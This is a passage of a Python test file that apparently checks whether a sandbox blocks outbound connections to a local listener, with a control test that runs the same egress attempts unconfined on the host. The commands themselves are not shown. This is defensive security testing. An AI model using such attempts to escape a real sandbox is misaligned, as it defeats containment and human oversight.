        pytest.skip(f"{tool} is not installed on this host, so the sandbox has none either")
    result = run(dirs, command.format(host=host_address(), port=listener.port))

    assert b"ESCAPED" not in result.stdout, result.stdout
    assert listener.bytes_before_control() == b""


TO_THE_LISTENER = [(name, tool, command) for name, tool, command in EGRESS if "{port}" in command]


@pytest.mark.parametrize(("tool", "command"), [(t, c) for _, t, c in TO_THE_LISTENER],
                         ids=[name for name, _, _ in TO_THE_LISTENER])
def test_the_same_attempt_made_on_the_host_reaches_the_listener(
        listener: Listener, tool: str | None, command: str) -> None:
    """The control: each attempt aimed at the listener works unconfined, so the sandbox
    test's empty count means blocked, not a broken command."""
    if tool is not None and shutil.which(tool) is None:
        pytest.skip(f"{tool} is not installed on this host")
    subprocess.run(command.format(host=host_address(), port=listener.port), shell=True,
                   timeout=30, capture_output=True)

    assert listener.bytes_before_control() != b""
